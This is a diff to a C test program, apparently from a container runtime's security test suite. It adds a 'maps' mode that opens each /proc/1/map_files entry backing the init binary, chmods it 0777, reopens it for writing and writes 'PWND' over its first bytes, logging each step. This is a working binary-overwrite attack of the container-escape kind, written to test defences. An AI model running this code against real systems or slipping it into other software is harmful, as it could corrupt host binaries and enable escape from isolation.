@@ -14,7 +14,14 @@
  *                      but the parent is SIGKILLed instead ("killed")
  *   exe_attack peek    open the parent's /proc/PID/environ and exe, read a
  *                      byte of each ("environ", "exe")
+ *   exe_attack maps    the init is pid 1, CAP_SYS_ADMIN and CAP_SYS_PTRACE:
+ *                      every /proc/1/map_files entry that is the binary
+ *                      (the inode of /proc/1/exe: text, rodata, relro,
+ *                      data), opened ("mapfiles"), fchmod 0777
+ *                      ("mapfiles-fchmod"), reopened for writing
+ *                      ("mapfiles-write")
  * Each then logs "done". */
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <signal.h>
@@ -158,6 +165,41 @@ static void against(pid_t target, int kill_it)
 	rewrite(exe);
 }
 
+/* Each mapping of pid 1 that is the binary's inode, whichever mount it
+ * is reached through: chmod it, write it.  Other files (the host's libc)
+ * are left alone. */
+static void through_map_files(void)
+{
+	struct stat exe, st;
+	struct dirent *e;
+	DIR *d = opendir("/proc/1/map_files");
+	char path[300];
+
+	if (!d || stat("/proc/1/exe", &exe) < 0)
+		return;
+	while ((e = readdir(d))) {
+		int fd;
+
+		snprintf(path, sizeof path, "/proc/1/map_files/%s", e->d_name);
+		fd = open(path, O_RDONLY);
+		if (fd < 0 || fstat(fd, &st) < 0 || st.st_ino != exe.st_ino ||
+		    st.st_dev != exe.st_dev) {
+			if (fd >= 0)
+				close(fd);
+			continue;
+		}
+		say("mapfiles");
+		if (fchmod(fd, 0777) == 0)
+			say("mapfiles-fchmod");
+		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+		int w = open(path, O_WRONLY);
+		if (w >= 0 && pwrite(w, "PWND", 4, 0) == 4)
+			say("mapfiles-write");
+		close(fd);
+	}
+	closedir(d);
+}
+
 int main(int argc, char **argv)
 {
 	pid_t parent = getppid();
@@ -169,6 +211,8 @@ int main(int argc, char **argv)
 		against(1, 0);
 	else if (strcmp(argv[1], "parent") == 0)
 		against(parent, 1);
+	else if (strcmp(argv[1], "maps") == 0)
+		through_map_files();
 	else if (strcmp(argv[1], "peek") == 0) {
 		if (readable(parent, "environ"))
 			say("environ");
